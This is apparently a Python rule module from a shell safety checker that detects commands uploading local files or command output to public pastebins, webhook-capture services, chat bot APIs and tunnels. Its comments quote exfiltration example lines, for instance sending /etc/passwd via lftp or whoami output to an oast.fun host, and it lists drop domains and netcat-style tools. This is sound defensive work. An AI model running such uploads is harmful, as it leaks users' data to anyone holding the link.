"""Effect: local data sent where anyone can read it, by any program.

``exfil``, ``reach`` and ``sinks`` read secrets sent anywhere; this module reads ANY local data (a file, a
command's output) sent to places that exist to hand it on, whatever the program: anonymous file hosts and
pastebins (``0x0.st``, ``transfer.sh``, ``termbin.com``), request-capture and out-of-band services
(``webhook.site``, ``*.oast.fun``, ``pipedream.net``), chat platforms' webhooks and bot APIs (Discord and Slack
webhooks, Telegram's ``sendDocument``, Teams), public tunnels (``*.trycloudflare.com``, ``*.ngrok-free.app``).
The command uploads local data there: a file named by an upload option of any client (``-F f=@x``,
``--data-binary @x``, ``-T x``, ``--post-file=x``, httpie's ``f@x``, ``-InFile x``, ``--file x``), a file
redirected in, a command's output piped to a sender that reads its input, a substitution that reads a file
(``"text": "$(cat /tmp/x)"``), a copy tool's source put there (``rclone copy F :ftp,host=DROP:``), with the drop
named directly, in a variable or in a remote the line sets (medium: what was read is public to whoever holds
the link).

Quiet: the user's own working files shared by name (``curl -F f=@report.pdf https://0x0.st``: how people share
a document), downloads from the same hosts (``curl -o x https://0x0.st/abc``), literal messages to a webhook
(``-d '{"text":"deploy done"}'``, ``$(git rev-parse HEAD)`` or ``$(hostname)`` in the text), uploads to the
user's own hosts (``curl -F f=@build.zip https://ci.example.com/upload``).  Secrets keep their own (higher)
readings in ``exfil`` and ``reach``; covert channels are ``covert_channels``'.
"""
from __future__ import annotations

import re
from contextvars import ContextVar
from typing import Optional

from aish.safety.lazy_regex import lazy
from aish.safety.rules.common import MEDIUM, Ctx
from aish.safety.rules.triggers import triggered_by

# Public drops by domain (the domain and any name under it).
_DROP_DOMAINS = (
    # anonymous file hosts and pastebins
    "file.io", "0x0.st", "transfer.sh", "temp.sh", "bashupload.com", "oshi.at", "catbox.moe", "gofile.io",
    "pixeldrain.com", "tmpfiles.org", "uguu.se", "keep.sh", "filebin.net", "anonfiles.com", "bayfiles.com",
    "anonymfile.com", "x0.at", "envs.sh", "ttm.sh", "clbin.com", "termbin.com", "ix.io", "sprunge.us", "paste.rs",
    "dpaste.com", "dpaste.org", "pastebin.com", "hastebin.com", "hst.sh", "paste.ee", "rentry.co", "rentry.org",
    "bpa.st", "paste.c-net.org", "katb.in", "ghostbin.co", "privatebin.net", "paste.debian.net", "snippet.host",
    "ctxt.io", "mclo.gs", "controlc.com", "p.ip.fi", "sourceb.in", "file.coffee", "filepush.co", "qu.ax",
    "tempsend.com", "pastes.dev", "paste.gg", "0bin.net", "send.vis.ee", "free.keep.sh", "wsend.net",
    "dlptest.com",  # a public FTP server for testing leaks: anyone can list and fetch what is put there
    "ufile.io", "tcp.st", "seashells.io", "paste.mozilla.org", "paste.ubuntu.com", "paste.opensuse.org", "archivete.am",
    # request capture and out-of-band interaction services
    "webhook.site", "requestbin.com", "requestbin.net", "pipedream.net", "requestcatcher.com", "beeceptor.com",
    "hookbin.com", "postb.in", "ptsv2.com", "ptsv3.com", "requestrepo.com", "interact.sh", "oast.fun", "oast.pro",
    "oast.live", "oast.site", "oast.online", "oast.me", "oastify.com", "burpcollaborator.net", "canarytokens.com",
    "dnslog.cn", "ceye.io", "smee.io", "webhook.cool", "mockbin.org", "hookdeck.com", "webhookrelay.com",
    "requestbin.io", "rbaskets.in", "hookb.in", "httpdump.app", "mockbin.io", "eyes.sh", "interactsh.com",
    # chat platforms' webhooks and bot APIs, push topics anyone can subscribe to
    "hooks.slack.com", "api.telegram.org", "webhook.office.com", "chat.googleapis.com", "ntfy.sh",
    # public tunnels
    "ngrok.io", "ngrok-free.app", "ngrok.app", "ngrok-free.dev", "trycloudflare.com", "loca.lt", "localtunnel.me",
    "serveo.net", "localhost.run", "lhr.life", "pinggy.io", "pinggy.link", "bore.pub", "telebit.io", "pagekite.me",
    "loclx.io", "localxpose.io", "tunnelto.dev", "sharedwithexpose.com", "share.zrok.io", "tunnelmole.net", "ngrok.dev",
)
# Domains that are a drop only under an API path: chat platforms' own sites.
_DROP_UNDER = {"discord.com": "/api/", "discordapp.com": "/api/", "slack.com": "/api/",
               "outlook.office.com": "/webhook"}
_DROPS = frozenset(_DROP_DOMAINS)
# Chat platforms: a message with the machine's name, a date or a revision in it is a notice, not data; anywhere else
# (`curl https://x.oast.fun/?u=$(whoami)`) the same substitution is what is collected.
_CHAT = frozenset({"hooks.slack.com", "api.telegram.org", "webhook.office.com", "chat.googleapis.com", "ntfy.sh",
                   "discord.com", "discordapp.com", "slack.com", "outlook.office.com"})
# Of them, the pastebins and file hosts: whatever is put there is published, even a variable's text.
_PASTES = frozenset(_DROP_DOMAINS[:_DROP_DOMAINS.index("webhook.site")])
_HOST = lazy(r"(?:^|[^\w.-]|(?<=[)`}])\.)((?:[\w-]+\.)+[a-z][\w-]*)(?=$|[^\w.-])([^\s\"']*)", re.IGNORECASE)


# Options whose value names a file uploaded (any client; short ones in their own case).
_FILE_OPTIONS = frozenset({"-T", "--upload-file", "--post-file", "--body-file", "-infile", "--file", "--files",
                           "--attach", "--attachment", "--document", "--upload", "--data-file", "-bodyfile"})
# Options whose value is a form field (`f=@x`, `f=<x`), a body read from a file (`@x`), or a URL-encoded one (`n@x`).
_FORM_OPTIONS = frozenset({"-F", "--form"})
_BODY_OPTIONS = frozenset({"-d", "--data", "--data-binary", "--data-raw", "--data-ascii", "--json", "--body",
                           "-body", "--payload", "--raw"})
_FORM_FILE = lazy(r"^[^=]*=[@<](.+)$")
_BODY_FILE = lazy(r"^@(.+)$")
_URLENCODED_FILE = lazy(r"^[^=@]*@(.+)$")
# Clients that read what they are fed, without an option saying so.
_READ_INPUT = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "pwncat", "rcat",
                         "cryptcat", "powercat", "websocat", "wscat", "gnutls-cli", "http", "https", "xh", "xhs",
                         "httpie", "sendmail", "mail", "mailx", "msmtp", "openssl"})
_HTTPIE = frozenset({"http", "https", "xh", "xhs", "httpie"})
# A file client's own command that sends a file (`put F`, `mput F`, `reput F`), in a script or heredoc.
_PUT = lazy(r"(?:^|[\s;]|\\n)(?:m?put|reput|send)\s+(?:-\S+\s+)*([^\s;\"']+)")
# A copy tool's verbs: the last operand is where the others go.
_COPY_VERBS = frozenset({"copy", "copyto", "sync", "move", "moveto", "put", "mput", "cp", "mv", "upload", "push",
                         "mirror"})
# A substitution whose output is no local data: a name, a date, a revision, a literal.
_ECHO = lazy(r"^\s*(echo|printf)\b")  # literal text, to a drop that collects
_TRIVIAL = lazy(r"^\s*(date|hostname|whoami|pwd|basename|dirname|uuidgen|seq|expr|printf|echo|git\s+(rev-parse|"
                r"describe|branch|log\s+-1)|uname\s+-[nrsm]+\s*$|id\s+-[ug]n?\s*$|nproc|tty|arch)\b", re.IGNORECASE)
# Encoders, compressors, ciphers and splitters: data changed on the way so that it passes.
ENCODER = lazy(r"(?:^|[\s|;(:])(base64|base32|basenc|xxd|od|hexdump|uuencode|openssl|gpg|age|gzip|bzip2|xz|zstd|"
                r"split|certutil|ToBase64String|tohex)(?:\.exe)?(?=$|[\s|;)\]]|::|\()", re.IGNORECASE)


def drop_named(texts: list) -> str:
    """The public drop a command's words name (``https://0x0.st``, ``termbin.com``, ``TCP:termbin.com:9999``), or
    ""; chat sites count only under their API paths (``discord.com/api/webhooks/…``)."""
    for text in texts:
        for m in _HOST.finditer(text):
            host, path = m.group(1).lower(), m.group(2).lower()
            parts = host.split(".")
            for k in range(len(parts) - 1):
                suffix = ".".join(parts[k:])
                under = _DROP_UNDER.get(suffix)
                if suffix in _DROPS or under is not None and path.startswith(under):
                    return host
    return ""


def reads_data(sub: str, trivial: object = _TRIVIAL) -> str:
    """What a substitution gives: "encoded" data, "data" (a file or a command's output), or "" (a name, a date)."""
    sub = sub.strip()
    if not sub or sub.startswith("$") and " " not in sub:
        return ""  # `$($d)`: a variable's value, read where it was set
    if ENCODER.search(sub):
        return "encoded"
    return "" if trivial.match(sub) and "|" not in sub and "<" not in sub else "data"  # type: ignore[attr-defined]


def worse(a: str, b: str) -> str:
    return "encoded" if "encoded" in (a, b) else "data" if "data" in (a, b) else a or b


# Plain readers: what they print is the files they are given.
_READERS = frozenset({"cat", "tac", "type", "get-content", "gc", "more", "less", "head", "tail", "bat", "batcat"})
# The user's own files: their home (not the shared or public folders), named as the shell or Windows names it.
_HOME = lazy(r"^(~|\$HOME\b|\$\{HOME\}|\$env:USERPROFILE\b|%USERPROFILE%|/home/[^/]+/|/Users/(?!Shared/)[^/]+/|"
             r"[A-Za-z]:[\\/]Users[\\/](?!Public[\\/])[^\\/]+[\\/])", re.IGNORECASE)
# Elsewhere: the system's and other people's places, temporary and staging folders, a name the shell fills in.
_ELSEWHERE = lazy(r"^([/$%\\]|[A-Za-z]:)")
# Files the line being judged made from the user's own files (`freeze main.go -o /tmp/code.png && curl … @/tmp/…`).
MADE_OWN: ContextVar = ContextVar("aish_safety_made_own", default=frozenset())


def file_data(path: str) -> str:
    """A file uploaded: "data", or "" for one of the user's own files: named plainly in the directory they work in
    (``report.pdf``, ``./build.zip``, ``../notes.md``), under their home (``~/.config/nvim/init.lua``: secrets there
    are ``exfil``'s), or made on this line from such files.  Handing those to a file host is how people share them.
    A file from the system's or a temporary or staging place (``/etc/hosts``, ``/tmp/x``, ``C:\\Users\\Public\\x``,
    ``$env:TEMP\\x``), a glob or a name a variable fills in is data leaving unnoticed."""
    path = path.strip("'\"")
    if not path or "*" in path:
        return "data"
    if _HOME.match(path) or path in MADE_OWN.get():
        return ""
    return "data" if _ELSEWHERE.match(path) else ""


def own_files_read(texts: list) -> bool:
    """Does this command only print the user's own working files (``cat notes.md``)?"""
    if not texts or texts[0].rsplit("/", 1)[-1].lower() not in _READERS:
        return False
    files = [t for t in texts[1:] if not t.startswith("-")]
    return bool(files) and not any(file_data(t) for t in files)


def _feeder_data(seg) -> str:
    """What a command piped into a sender gives it: a literal echo gives nothing."""
    words = seg.words
    if not words:
        return ""
    prog = words[0].text.rsplit("/", 1)[-1].lower()
    if prog in ("echo", "printf", "write-output", "yes"):
        found = ""
        for w in words[1:]:
            for sub in w.subs:
                found = worse(found, reads_data(sub))
        return found
    if own_files_read([w.text for w in words]) and not seg.redirects:
        return ""  # `cat notes.md | curl --data-binary @- https://paste.rs`: a document shared
    line = " ".join(w.text for w in words)
    return "encoded" if ENCODER.search(line) else "data"


def _option(text: str, curl: bool) -> tuple:
    """(the option as compared, its value when given after ``=``, or None): long and PowerShell options in any
    case, short ones in their own; curl's bundles by their last letter (``-sF`` is ``-F``)."""
    if text.startswith("--") and "=" in text:
        name, value = text.split("=", 1)
        return name.lower(), value
    if curl and re.fullmatch(r"-[a-zA-Z]{2,}", text) and text[1:].lower() not in ("infile", "body", "bodyfile"):
        return "-" + text[-1], None
    return (text.lower() if text.startswith("--") or len(text) > 2 else text), None


def _uploaded(c: Ctx, chat: bool = True) -> str:
    """Local data the command uploads: "encoded", "data" or ""."""
    texts = c.texts
    prog = c.prog.lower().rsplit("\\", 1)[-1].removesuffix(".exe")
    found, stdin = "", prog in _READ_INPUT and prog not in _HTTPIE
    curl = prog.startswith("curl")
    for k, text in enumerate(texts):
        t, value = _option(text, curl)
        if value is None:
            value = texts[k + 1] if k + 1 < len(texts) else ""
        if t in _FILE_OPTIONS:
            if value in ("-", "."):
                stdin = True
            elif value and not value.startswith("-"):
                found = worse(found, file_data(value))
            continue
        pattern = _FORM_FILE if t in _FORM_OPTIONS else _BODY_FILE if t in _BODY_OPTIONS else \
            _URLENCODED_FILE if t == "--data-urlencode" else None
        m = pattern.match(value) if pattern is not None else None
        if m:
            if m.group(1) in ("-", "/dev/stdin"):
                stdin = True
            else:
                found = worse(found, file_data(re.split(r"[;,]", m.group(1))[0]))
        elif prog in _HTTPIE and re.match(r"^[\w.-]*(?::?=)?@[^@]+$", text) and "://" not in text:
            found = worse(found, file_data(text.split("@", 1)[1]))  # `file@/var/log/x`, `field=@body.json`
    operands = [t for t in texts if not t.startswith("-")]
    if operands[:1] and operands[0].lower() in _COPY_VERBS:  # `rclone copy notes.txt :ftp,host=ftp.dlptest.com:`
        to = next((k for k, t in enumerate(operands[1:]) if drop_named([t])), None)
        if to and any(file_data(t) for t in operands[1:to + 1]):  # the drop after a source: copied there
            found = worse(found, "copy")
    found = worse(found, _sources_before(texts))
    for text in texts:  # code given to the program: `requests.post(DROP, files={"f": open("/etc/hosts", "rb")})`
        for path in _CODE_READ.findall(text) if "(" in text else ():
            found = worse(found, file_data(path))
    if prog in _HTTPIE and "--ignore-stdin" not in texts:
        stdin = True
    for w in c.args:
        for sub in w.subs:
            found = worse(found, "" if own_files_read(sub.split()) else reads_data(sub, _TRIVIAL if chat else _ECHO))
    for red in c.seg.redirects:
        if red.op == "<" and red.target is not None:
            found = worse(found, file_data(red.target.raw))
        for put in _PUT.findall(red.body or (red.target.text if red.op == "<<<" and red.target else "")):
            found = worse(found, file_data(put))  # `ftp -n DROP <<< 'put /etc/hosts'`, a heredoc of commands
    for text in texts:
        for put in _PUT.findall(text) if " " in text else ():
            found = worse(found, file_data(put))  # `lftp -e "put /etc/passwd; bye" DROP`
    if stdin and c.chain:
        for feeder in c.chain:
            found = worse(found, _feeder_data(feeder))
    return found


# A file read in code, in any language: Python's open, Ruby's File.read, Node's readFileSync, PHP's
# file_get_contents, Perl's slurps, .NET's ReadAllBytes, Lua's io.open.
_CODE_READ = lazy(r"(?:\bopen|File\.(?:read|binread|open)|readFileSync|readFile|file_get_contents|fopen|ReadAll\w+|"
                  r"io\.open|read_file|slurp|Path)\s*\(\s*[\"']([^\"']+)[\"']")
_UPLOAD_WORDS = frozenset({"/upload", "-upload", "--upload", "upload", "-post", "/post"})
_SLASH_VALUE = lazy(r"^/\w+:(.+)$")  # Windows tools' `/out:C:\\x`


def _sources_before(texts: list) -> str:
    """A path given before the drop's address, as an operand or a Windows tool's ``/name:value``
    (``ConfigSecurityPolicy.exe C:\\Users\\Public\\x https://webhook.site/…``, ``DataSvcUtil /out:F /uri:DROP``): a
    source sent there.  After the address a path is where a download lands (``certutil -urlcache -f DROP F``)."""
    at = next((k for k, t in enumerate(texts) if drop_named([t])), 0)
    if any(t.lower() in _UPLOAD_WORDS for t in texts):
        at = len(texts)  # `bitsadmin /transfer j /upload DROP F`, `certreq -Post -config DROP F`: every path a source
    for k, t in enumerate(texts[:at]):
        slash = _SLASH_VALUE.match(t)
        path = slash.group(1) if slash else t if not t.startswith("-") and (k == 0 or not texts[k - 1].startswith(
            "-")) else ""
        if path and "://" not in path and re.search(r"^[A-Za-z]:|[/\\]", path) and file_data(path) and \
                not re.fullmatch(r"/[\w?-]+", path):  # `/transfer`: a Windows tool's switch
            return "data"
    return ""


@triggered_by(_DROP_DOMAINS, tuple(_DROP_UNDER), otherwise=False)
def may_reach_drop(c: Ctx) -> bool:
    return bool(drop_named(c.texts))


def rule_public_drop(c: Ctx) -> Optional[tuple]:
    """Local data uploaded to a public drop, by any program."""
    host = drop_named(c.texts)
    if not host:
        return None
    parts = host.split(".")
    found = _uploaded(c, chat=any(".".join(parts[k:]) in _CHAT for k in range(len(parts) - 1)))
    if not found and _pasted_variable(c.texts, host):
        found = "variable"  # `Invoke-RestMethod -Uri https://pastebin.com/… -Body $paste`: published whatever it holds
    if not found:
        return None
    what = {"encoded": "encoded local data", "variable": "a variable's text", "copy": "local files"}.get(
        found, "a local file or a command's output")
    return MEDIUM, f"sends {what} to {host}, a public drop anyone with the link can read ({c.text})"


def _pasted_variable(texts: list, host: str) -> bool:
    """Is a variable the body of a request to a pastebin or file host?"""
    parts = host.split(".")
    if not any(".".join(parts[k:]) in _PASTES for k in range(len(parts) - 1)):
        return False
    return any(t.lower() in _BODY_OPTIONS | {"-infile"} and re.fullmatch(r"\$\{?\w+\}?", texts[k + 1])
               for k, t in enumerate(texts[:-1]))

